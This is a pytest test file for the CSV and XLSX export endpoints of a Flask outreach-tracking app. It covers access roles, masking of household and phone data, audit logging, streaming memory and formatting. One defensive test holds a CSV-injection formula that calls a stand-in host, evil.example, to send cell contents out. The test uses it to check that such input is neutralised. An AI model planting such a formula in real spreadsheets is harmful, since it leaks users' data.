"""Exports: roles and scope, masking and audit, CSV and XLSX read back to the same rows, memory stays flat."""

import csv
import io
import time
import tracemalloc
import uuid
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
import requests
from flask.testing import FlaskClient
from sqlalchemy import func, insert, select, text

from server.extensions import db
from server.models import Area, Assist, AuditEvent, Outreach
from server.services import export_copy, tally_cells
from tests.factories import assist_data, kk, make_user, mutation, outreach_data, push
from tests.helpers_field import log_households, petugas_client, staff_client
from tests.live import Server

KINDS = ("assists", "follow-up", "tallies")


def _csv(resp, sep=";"):
    """Read an export's CSV: `;` between cells unless the request asked for `,` (or came in English)."""
    assert resp.status_code == 200, resp.get_data()[:300]
    return _rows(resp.get_data(), sep)


def _rows(data, sep):
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=sep))


def test_role_and_scope_matrix(app):
    phone = petugas_client(app, ["35.09.19.1001"])
    log_households(phone, "35.09.19.1001", [kk(serial=1)])
    coord = staff_client(app, "coordinator", ["35.09.19"])
    sup = staff_client(app, "supervisor", ["35.09"])
    for kind in KINDS:
        for fmt in ("csv", "xlsx"):
            url = f"/api/v1/exports/{kind}.{fmt}"
            assert phone.get(url).get_json()["problem"] == "auth.forbidden"
            assert app.test_client().get(url).status_code == 401
            assert coord.get(url, query_string={"area": "35.09.20"}).status_code == 404
            assert sup.get(url, query_string={"area": "53.03"}).status_code == 404
            assert coord.get(url).status_code == 200
    assert coord.get("/api/v1/exports/assists.pdf").status_code == 404
    bad = coord.get("/api/v1/exports/assists.csv", query_string={"outcome": "x", "secret": 1})
    assert bad.status_code == 422 and set(bad.get_json()["errors"]) == {"outcome", "secret"}


def test_masked_by_default_full_only_for_allowed_roles_and_always_audited(app):
    phone = petugas_client(app, ["35.09.19.1001"])
    log_households(phone, "35.09.19.1001", [kk(serial=5)], phone="081234567890")
    coord = staff_client(app, "coordinator", ["35.09.19"])
    sup = staff_client(app, "supervisor", ["35.09"])
    (row,) = _csv(coord.get("/api/v1/exports/assists.csv"))
    assert (row["Nomor KK"], row["Telepon"]) == ("350919••••••0005", "+6281••••••890")
    refused = coord.get("/api/v1/exports/assists.csv", query_string={"unmask": "true"})
    assert (refused.status_code, refused.get_json()["problem"]) == (403, "export.unmask_forbidden")
    (full,) = _csv(sup.get("/api/v1/exports/assists.csv", query_string={"unmask": "true", "outcome": "berhasil"}))
    assert (full["Nomor KK"], full["Telepon"]) == (kk(serial=5), "+6281234567890")
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.action.like("export.%")).order_by(AuditEvent.id))
    seen = [(e.action, e.actor_id, (e.details or {}).get("masked"), (e.details or {}).get("rows")) for e in events]
    assert seen == [
        ("export.assists", coord.user.id, True, None),
        ("export.assists_done", coord.user.id, None, 1),
        ("export.assists", sup.user.id, False, None),
        ("export.assists_done", sup.user.id, None, 1),
    ]
    started = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.assists")).all()[-1]
    assert started.details["filters"] == {"outcome": "berhasil", "unmask": "True", "by": "child", "sep": ";"}


def test_follow_up_list_has_one_row_per_household_and_says_who_to_visit(app):
    a = petugas_client(app, ["35.09.19.1001"])
    b = petugas_client(app, ["35.09.19.1001"])
    log_households(a, "35.09.19.1001", [kk(serial=1), kk(serial=2)], outcome="gagal")
    log_households(b, "35.09.19.1001", [kk(serial=1)], outcome="berhasil")  # the same household, done later
    sup = staff_client(app, "supervisor", ["35.09"])
    rows = _csv(sup.get("/api/v1/exports/follow-up.csv", query_string={"unmask": "true"}))
    got = {(r["Nomor KK"], r["Hasil pendampingan"], r["Perlu dikunjungi"], r["Kali dicatat"]) for r in rows}
    assert got == {(kk(serial=1), "Berhasil", "Tidak", "2"), (kk(serial=2), "Gagal", "Ya", "1")}


def test_tallies_export_matches_the_api(app):
    phone = petugas_client(app, ["35.09.19.1001"])
    log_households(phone, "35.09.19.1001", [kk(serial=i) for i in range(1, 4)], members=2)
    coord = staff_client(app, "coordinator", ["35.09.19"])
    rows = _csv(coord.get("/api/v1/exports/tallies.csv", query_string={"by": "enumerator"}))
    api = coord.get("/api/v1/tallies", query_string={"by": "enumerator"}).get_json()
    assert [(r["Nama pengguna"], r["Rumah tangga"], r["Jiwa"]) for r in rows[:-1]] == [
        (r["username"], str(r["households"]), str(r["persons"])) for r in api["rows"]
    ]
    assert (rows[-1]["Petugas"], rows[-1]["Jiwa"]) == ("Jumlah", "6")
    book = openpyxl.load_workbook(io.BytesIO(coord.get("/api/v1/exports/tallies.xlsx").get_data()), read_only=True)
    assert next(book.active.iter_rows(values_only=True))[:3] == ("Peringkat", "Kode", "Nama")


def _generate(owner_id, n):
    """Insert n assists for one petugas directly (what a season of pushes leaves), then the tallies."""
    oid = uuid.uuid4()
    now = datetime.now(UTC)
    common = {"version": 1, "voided": False, "clock_suspect": False, "received_at": now, "updated_at": now}
    common |= {"content_hash": "x", "change_seq": 0, "owner_id": owner_id, "desa_code": "35.09.19.1001"}
    common |= {"kecamatan_code": "35.09.19"}
    db.session.execute(
        insert(Outreach),
        [{**common, "id": oid, "place_kind": "kantor_desa", "place_name": "Balai Desa Mangli", "date": date.today()}],
    )
    for start in range(0, n, 10_000):
        db.session.execute(
            insert(Assist),
            [
                {
                    **common,
                    "id": uuid.uuid4(),
                    "outreach_id": oid,
                    "kk_number": f"3509191{i:09d}",
                    "head_name": f"Kepala Keluarga {i}",
                    "members": 1 + i % 6,
                    "outcome": "berhasil" if i % 4 else "gagal",
                    "reasons": ["tidak_paham"],
                    "device_used": "hp_warga",
                    "review_state": "received",
                }
                for i in range(start, min(n, start + 10_000))
            ],
        )
    tally_cells.rebuild()
    db.session.commit()


def _consume(app, user, url, sink):
    """Stream an export into a file chunk by chunk; return (response, size, peak bytes traced meanwhile)."""
    # A plain client: the suite's ApiClient ends its app context when the call returns, before a stream is read.
    client = FlaskClient(app)
    login = {"username": user.username, "password": user.password}
    assert client.post("/api/v1/auth/login", json=login, headers={"X-Requested-With": "t"}).status_code == 200
    tracemalloc.start()
    resp = client.get(url, headers={"X-Requested-With": "test"}, buffered=False)
    size = 0
    for chunk in resp.response:
        size += len(chunk)
        sink.write(chunk)
    resp.close()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return resp, size, peak


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_100k_assists_stream_in_flat_memory_and_read_back_the_same(app, fmt, backend, tmp_path):
    # The XLSX writer is the same on both databases and slow: its full 100,000-row run is on PostgreSQL.
    n = 20_000 if (fmt, backend) == ("xlsx", "sqlite") else 100_000
    phone = petugas_client(app, ["35.09.19.1001"])
    _generate(phone.user.id, n)
    sup = staff_client(app, "supervisor", ["35.09"])
    small_size = small_peak = 0
    if fmt == "csv":  # the XLSX writer is slow enough already; CSV shows the flat line
        with (tmp_path / "quarter.csv").open("wb") as sink:  # outcome gagal: every fourth household
            _, small_size, small_peak = _consume(app, sup.user, "/api/v1/exports/assists.csv?outcome=gagal", sink)
    path = tmp_path / f"export.{fmt}"
    with path.open("wb") as sink:
        resp, size, peak = _consume(app, sup.user, f"/api/v1/exports/assists.{fmt}", sink)
    assert resp.status_code == 200
    assert size > n * {"csv": 150, "xlsx": 80}[fmt] and size > 3.5 * small_size, (size, small_size)
    # Four times the rows, the same memory: what is held at once does not grow with the export.
    if small_peak:
        assert peak < 1.25 * small_peak + 1_000_000, f"peak {peak:,} B (100,000 rows) vs {small_peak:,} B (25,000)"
    assert peak < 16_000_000, f"peak {peak:,} bytes for a {size:,}-byte export"
    expected = {str(i) for i in db.session.scalars(select(Assist.id))}
    if fmt == "csv":
        with path.open(encoding="utf-8-sig", newline="") as f:
            rows = list(csv.DictReader(f, delimiter=";"))
        ids = [r["ID pendampingan"] for r in rows]
        assert rows[0]["Nomor KK"].count("•") == 6
    else:
        book = openpyxl.load_workbook(path, read_only=True)
        ids = [r[0] for r in book.active.iter_rows(min_row=2, max_col=1, values_only=True)]
        book.close()  # read-only workbooks keep their file open until closed
    assert len(ids) == n and set(ids) == expected
    done = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.assists_done")).all()
    assert {k: v for k, v in done[-1].details.items() if k != "export"} == {"format": fmt, "rows": n, "complete": True}
    assert db.session.scalar(select(func.count()).select_from(Assist)) == n


@pytest.mark.slow  # a real gunicorn and 20,000 assists
def test_an_export_cut_off_by_the_client_is_audited_as_incomplete(app, db_url):
    phone = petugas_client(app, ["35.09.19.1001"])
    _generate(phone.user.id, 20_000)
    sup = make_user(role="supervisor", areas=["35.09"])
    server = Server(db_url)
    try:
        http = requests.Session()
        http.headers["X-Requested-With"] = "jemput-bola"
        login = {"username": sup.username, "password": sup.password}
        assert http.post(f"{server.url}/api/v1/auth/login", json=login).status_code == 200
        resp = http.get(f"{server.url}/api/v1/exports/assists.csv", stream=True)
        assert next(resp.iter_content(1024))
        resp.close()  # the office's connection drops after the first bytes
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            db.session.rollback()
            done = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.assists_done")).all()
            if done:
                break
            time.sleep(0.2)
        assert len(done) == 1 and done[0].details["complete"] is False and done[0].actor_id == sup.id
        assert 0 < done[0].details["rows"] < 20_000
    finally:
        server.stop()


def test_copy_path_writes_the_same_bytes_as_the_python_writer(app, backend):
    phone = petugas_client(app, ["35.09.19.1001", "35.09.19.1002"])
    log_households(phone, "35.09.19.1001", [kk(serial=1)], notes='koma, "kutip"\nbaris baru', phone="+6281234567890")
    log_households(
        phone, "35.09.19.1002", [kk(serial=2)], phone="0812345678", reasons=["tidak_paham", "lansia_disabilitas"]
    )
    log_households(phone, "35.09.19.1001", [kk(serial=3)], outcome="gagal", device_used="hp_warga", notes="")
    _, (voided,) = log_households(phone, "35.09.19.1001", [kk(serial=4)], place_kind="pasar")
    sup = staff_client(app, "supervisor", ["35.09"])
    detail = sup.get(f"/api/v1/review/assists/{voided}")
    sup.post(
        f"/api/v1/review/assists/{voided}/decision",
        json={"action": "flag", "comment": "Cek, lagi"},
        headers={"If-Match": detail.headers["ETag"]},
    )
    # Reasons stored in another JSON spelling than json.dumps' take the general path of the SQL formatting.
    value = "CAST(:r AS json)" if backend == "postgresql" else ":r"
    db.session.execute(
        text(f"UPDATE assists SET reasons = {value} WHERE kk_number = :k"),
        {"r": '[ "lainnya","tidak_paham"]', "k": kk(serial=3)},
    )
    db.session.commit()
    assert export_copy.available("csv") == (backend == "postgresql")
    for query in ({}, {"unmask": "true"}, {"desa": "35.09.19.1001", "outcome": "berhasil"}):
        app.config["EXPORT_CSV_COPY"] = True
        fast = sup.get("/api/v1/exports/assists.csv", query_string=query).get_data()
        app.config["EXPORT_CSV_COPY"] = False
        slow = sup.get("/api/v1/exports/assists.csv", query_string=query).get_data()
        assert fast == slow, (query, fast.decode(), slow.decode())
        assert b"Lainnya, Tidak paham caranya" in slow or "desa" in query
        assert fast.count(b"\n") >= 2
    done = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.assists_done")).all()
    assert [e.details["rows"] for e in done] == [4, 4, 4, 4, 2, 2]


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def test_typed_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(app, backend):
    """Text a petugas typed that starts like a formula is inert in every file (OWASP CSV injection)."""
    phone = petugas_client(app, ["35.09.19.1001"])
    oid = uuid.uuid4()
    muts = [
        mutation("outreach", outreach_data(place_name="@SUM(1+1)"), oid),
        mutation("assist", assist_data(oid, 1, head_name=HOSTILE, notes="+1-2", phone="+6281234567890"), None),
        mutation("assist", assist_data(oid, 2, head_name="-2+3", notes="@A1", outcome="gagal"), None),
    ]
    assert all(r["status"] == "applied" for r in push(phone, muts).get_json()["results"])
    sup = staff_client(app, "supervisor", ["35.09"])
    for copy in (True, False):
        app.config["EXPORT_CSV_COPY"] = copy
        rows = _csv(sup.get("/api/v1/exports/assists.csv"))
        by_kk = {r["Nomor KK"][-4:]: r for r in rows}
        assert by_kk["0001"]["Kepala keluarga"] == "'" + HOSTILE
        assert by_kk["0001"]["Catatan"] == "'+1-2" and by_kk["0001"]["Nama tempat"] == "'@SUM(1+1)"
        assert by_kk["0001"]["Telepon"].startswith("+6281")  # a phone number is data, not a formula
        assert by_kk["0002"]["Kepala keluarga"] == "'-2+3" and by_kk["0002"]["Catatan"] == "'@A1"
    follow_up = _csv(sup.get("/api/v1/exports/follow-up.csv"))
    assert {r["Kepala keluarga"] for r in follow_up} == {"'" + HOSTILE, "'-2+3"}
    book = openpyxl.load_workbook(io.BytesIO(sup.get("/api/v1/exports/assists.xlsx").get_data()))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HOSTILE in {c.value for c in cells if c.data_type == "s"}
    assert not any(c.hyperlink for c in cells)


def _first_desa(prefix):
    return db.session.scalar(
        select(Area.code).where(Area.level == 4, Area.code.startswith(prefix + ".")).order_by(Area.code)
    )


AREAS = ("35.09", "53.03")


def test_files_open_without_help_separator_areas_local_times_bps(app, backend):
    """Issue 16.5: `;` by default (`,` on request or in English), every area level by code and name, the desa's
    BPS code where the area list has one, times in the desa's own zone with the zone named; both CSV paths."""
    ttu = _first_desa("53.03")
    phone = petugas_client(app, ["35.09.19.1001", ttu])
    log_households(phone, "35.09.19.1001", [kk(serial=1)])
    log_households(phone, ttu, [kk(serial=2, region="530301")])
    admin = staff_client(app, "admin", [])
    received = {k[-4:]: at for k, at in db.session.execute(select(Assist.kk_number, Assist.received_at))}
    db.session.execute(text("UPDATE areas SET bps_code = '3509190001' WHERE code = '35.09.19.1001'"))
    db.session.commit()
    try:
        for copy in (True, False):
            app.config["EXPORT_CSV_COPY"] = copy
            texts = {code: admin.get(f"/api/v1/exports/assists.csv?area={code}").get_data() for code in AREAS}
            assert all(t.decode("utf-8-sig").startswith("ID pendampingan;Versi;") for t in texts.values())
            (jember,), (timor,) = (_rows(texts[code], ";") for code in AREAS)
            assert [jember[k] for k in ("Kode provinsi", "Provinsi", "Kode kabupaten/kota", "Kabupaten/kota")] == [
                "35",
                "Jawa Timur",
                "35.09",
                "Kabupaten Jember",
            ]
            assert (jember["Kode kecamatan"], jember["Kode desa"], jember["Kode BPS desa"]) == (
                "35.09.19",
                "35.09.19.1001",
                "3509190001",
            )
            assert (timor["Kode provinsi"], timor["Kode kabupaten/kota"], timor["Kode BPS desa"]) == ("53", "53.03", "")
            for row, serial, hours, zone in ((jember, "0001", 7, "WIB"), (timor, "0002", 8, "WITA")):
                at = received[serial].astimezone(UTC) + timedelta(hours=hours)
                assert (row["Zona waktu"], row["Diterima server"]) == (zone, at.strftime("%Y-%m-%d %H:%M:%S"))
            comma = admin.get("/api/v1/exports/assists.csv", query_string={"area": "35.09", "sep": ","})
            assert _csv(comma, ",") == [jember]
            english = admin.get("/api/v1/exports/assists.csv?area=53.03", headers={"Accept-Language": "en"})
            assert english.get_data().decode("utf-8-sig").startswith("ID pendampingan,Versi,")
        bad = admin.get("/api/v1/exports/assists.csv", query_string={"area": "35.09", "sep": "|"})
        assert (bad.status_code, list(bad.get_json()["errors"])) == (422, ["sep"])
    finally:
        db.session.execute(text("UPDATE areas SET bps_code = NULL WHERE code = '35.09.19.1001'"))
        db.session.commit()


def test_xlsx_has_real_dates_a_frozen_filtered_header_and_a_codebook(app):
    phone = petugas_client(app, ["35.09.19.1001"])
    log_households(phone, "35.09.19.1001", [kk(serial=i) for i in range(1, 4)], day=date.today())
    sup = staff_client(app, "supervisor", ["35.09"])
    for kind in ("assists", "follow-up"):
        book = openpyxl.load_workbook(io.BytesIO(sup.get(f"/api/v1/exports/{kind}.xlsx").get_data()))
        data, codebook = book["Data"], book["Kodebuku"]
        header = [c.value for c in data[1]]
        assert data.freeze_panes == "A2" and data.auto_filter.ref == f"A1:{data.cell(1, len(header)).column_letter}4"
        first = dict(zip(header, [c.value for c in data[2]], strict=True))
        assert first["Tanggal kegiatan"] == datetime.combine(date.today(), datetime.min.time())
        assert data.cell(2, header.index("Tanggal kegiatan") + 1).is_date
        if kind == "assists":
            assert isinstance(first["Diterima server"], datetime) and first["Zona waktu"] == "WIB"
        book_rows = [[c.value for c in row] for row in codebook.iter_rows(min_row=2)]
        assert [r[0] for r in book_rows] == header and all(r[1] for r in book_rows)
        codes = dict((r[0], r[2]) for r in book_rows)
        assert "Berhasil" in codes["Hasil" if kind == "assists" else "Hasil pendampingan"]


@pytest.mark.parametrize("by", ["child", "day", "enumerator", "place_kind", "outcome"])
def test_every_column_of_a_tally_export_is_filled_and_decimals_follow_the_separator(app, by):
    """No column empty by construction (the old ranking's 'Jiwa kumulatif'); `;` files use a decimal comma."""
    phone = petugas_client(app, ["35.09.19.1001"])
    log_households(phone, "35.09.19.1001", [kk(serial=i) for i in range(1, 4)], members=2)
    log_households(phone, "35.09.19.1001", [kk(serial=9)], outcome="gagal")
    sup = staff_client(app, "supervisor", ["35.09"])
    target = {"population": 1000, "households": 300, "target_pct": 50}
    assert sup.put("/api/v1/targets/35.09.19", json=target).status_code == 200
    day = date.today().isoformat()
    before = (date.today() - timedelta(days=1)).isoformat()  # what took part today is the rise since yesterday
    figures = [{"area_code": "35.09.19", "date": d, "persons": n} for d, n in ((before, 150), (day, 200))]
    assert sup.post("/api/v1/progress", json={"rows": figures, "dry_run": False}).status_code == 200
    # The kecamatan with official figures: ranked among Jember's, or on its own.
    where = {"area": "35.09", "level": 3} if by == "child" else {"area": "35.09.19"}
    query = {"by": by, "from": day, "to": day, **where}
    rows = _csv(sup.get("/api/v1/exports/tallies.csv", query_string=query))
    worked = [r for r in rows if r.get("Kode", "35.09.19") == "35.09.19" and r["Rumah tangga"] != "0"]
    assert worked, rows
    empty = [title for title in rows[0] if all(not r[title] for r in worked)]
    assert empty == [], empty
    rate = worked[0]["Tingkat keberhasilan (%)"]
    assert rate == "75,0" or by == "outcome", rate
    comma = _csv(sup.get("/api/v1/exports/tallies.csv", query_string={**query, "sep": ","}), ",")
    rate = "Tingkat keberhasilan (%)"
    assert [r[rate] for r in comma] == [r[rate].replace(",", ".") for r in rows]
